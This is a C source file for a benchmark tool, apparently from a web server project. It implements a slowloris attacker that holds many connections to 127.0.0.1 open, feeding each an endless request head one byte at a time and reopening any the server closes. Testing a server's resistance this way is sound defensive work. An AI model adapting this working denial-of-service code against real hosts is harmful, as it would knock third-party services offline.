/*
 * bench/slowloris.c — the slowloris attacker of bench/slowloris.sh.
 *
 *   slowloris PORT COUNT SECONDS [INTERVAL_MS]
 *
 * Holds COUNT connections to 127.0.0.1:PORT for SECONDS. Each sends an endless request head
 * ("GET / HTTP/1.1\r\nHost: x\r\nX-a: bbbb...") one byte every INTERVAL_MS (100), and is
 * reopened as soon as the server closes it. The sends are spread evenly over the interval (a
 * slice of the connections every millisecond), as many independent attackers would be.
 *
 * One thread, non-blocking sockets, epoll: the attack itself costs little CPU, so that on a
 * small machine shared with the server the benchmark measures the server, not the attacker.
 * At the end it prints to stderr what it did: bytes sent, connections opened and closed by the
 * server, and the average number held open.
 *
 * Only 127.0.0.1 is contacted; it runs for a bounded time and then exits, closing everything.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char prefix[] = "GET / HTTP/1.1\r\nHost: x\r\nX-a: ";

struct conn {
    int fd;
    int connected;
    long sent; /* bytes of the head sent on this connection */
};

static long now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static struct sockaddr_in target;
static int ep;
static long opened, closed_by_server, bytes_sent, connect_errors;

static void open_conn(struct conn *c, int index) {
    c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    c->connected = 0;
    c->sent = 0;
    if (c->fd < 0) {
        connect_errors++;
        return;
    }
    int one = 1;
    setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    if (connect(c->fd, (struct sockaddr *)&target, sizeof target) < 0 && errno != EINPROGRESS) {
        close(c->fd);
        c->fd = -1;
        connect_errors++;
        return;
    }
    struct epoll_event ev = {.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP, .data.u32 = (unsigned)index};
    epoll_ctl(ep, EPOLL_CTL_ADD, c->fd, &ev);
    opened++;
}

static void drop_conn(struct conn *c) {
    if (c->fd >= 0) close(c->fd);
    c->fd = -1;
    c->connected = 0;
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: %s PORT COUNT SECONDS [INTERVAL_MS]\n", argv[0]);
        return 64;
    }
    int port = atoi(argv[1]), count = atoi(argv[2]);
    long seconds = atol(argv[3]), interval = argc > 4 ? atol(argv[4]) : 100;
    if (port <= 0 || port > 65535 || count <= 0 || seconds <= 0 || interval <= 0) {
        fprintf(stderr, "slowloris: bad arguments\n");
        return 64;
    }
    memset(&target, 0, sizeof target);
    target.sin_family = AF_INET;
    target.sin_port = htons((unsigned short)port);
    target.sin_addr.s_addr = htonl(INADDR_LOOPBACK);

    struct conn *conns = calloc((size_t)count, sizeof *conns);
    if (!conns || (ep = epoll_create1(EPOLL_CLOEXEC)) < 0) {
        perror("slowloris");
        return 1;
    }
    for (int i = 0; i < count; i++) conns[i].fd = -1;

    long start = now_ms(), end = start + seconds * 1000, held_sum = 0, held_samples = 0, last_sample = start;
    long next_slice = start;
    int cursor = 0;
    struct epoll_event events[256];
    char sink[4096];
    while (now_ms() < end) {
        long now = now_ms();
        if (now >= next_slice) {
            /* One millisecond's share of the connections: each gets a byte (or is reopened)
             * once per interval. */
            int share = (int)((count + interval - 1) / interval);
            for (int k = 0; k < share; k++, cursor = (cursor + 1) % count) {
                struct conn *c = &conns[cursor];
                if (c->fd < 0) {
                    open_conn(c, cursor);
                } else if (c->connected) {
                    char byte = c->sent < (long)sizeof prefix - 1 ? prefix[c->sent] : 'b';
                    ssize_t n = send(c->fd, &byte, 1, MSG_NOSIGNAL | MSG_DONTWAIT);
                    if (n == 1) {
                        c->sent++;
                        bytes_sent++;
                    } else if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
                        closed_by_server++;
                        drop_conn(c);
                    }
                }
            }
            next_slice += 1;
            if (next_slice < now - 50) next_slice = now; /* fell behind: do not burst */
        }
        if (now - last_sample >= 100) {
            int held = 0;
            for (int i = 0; i < count; i++) held += conns[i].connected;
            held_sum += held;
            held_samples++;
            last_sample = now;
        }
        long wait = next_slice - now_ms();
        int n = epoll_wait(ep, events, 256, wait > 0 ? (int)wait : 0);
        for (int i = 0; i < n; i++) {
            struct conn *c = &conns[events[i].data.u32];
            if (c->fd < 0) continue;
            if (!c->connected && (events[i].events & EPOLLOUT)) {
                int err = 0;
                socklen_t len = sizeof err;
                getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len);
                if (err) {
                    connect_errors++;
                    drop_conn(c);
                    continue;
                }
                c->connected = 1;
                struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP, .data.u32 = events[i].data.u32};
                epoll_ctl(ep, EPOLL_CTL_MOD, c->fd, &ev);
            }
            if (events[i].events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR)) {
                /* The server answered (408) and/or closed: read what it sent, reopen later. */
                ssize_t r;
                while ((r = recv(c->fd, sink, sizeof sink, MSG_DONTWAIT)) > 0) {}
                if (r == 0 || (r < 0 && errno != EAGAIN && errno != EWOULDBLOCK) ||
                    (events[i].events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR))) {
                    closed_by_server++;
                    drop_conn(c);
                }
            }
        }
    }
    for (int i = 0; i < count; i++) drop_conn(&conns[i]);
    fprintf(stderr,
            "slowloris: %ld s, %d connections: %ld bytes sent (%.0f/s), %ld opened, %ld closed by the server, "
            "%ld connect errors, %.0f held open on average\n",
            seconds, count, bytes_sent, (double)bytes_sent / (double)seconds, opened, closed_by_server, connect_errors,
            held_samples ? (double)held_sum / (double)held_samples : 0.0);
    free(conns);
    return 0;
}
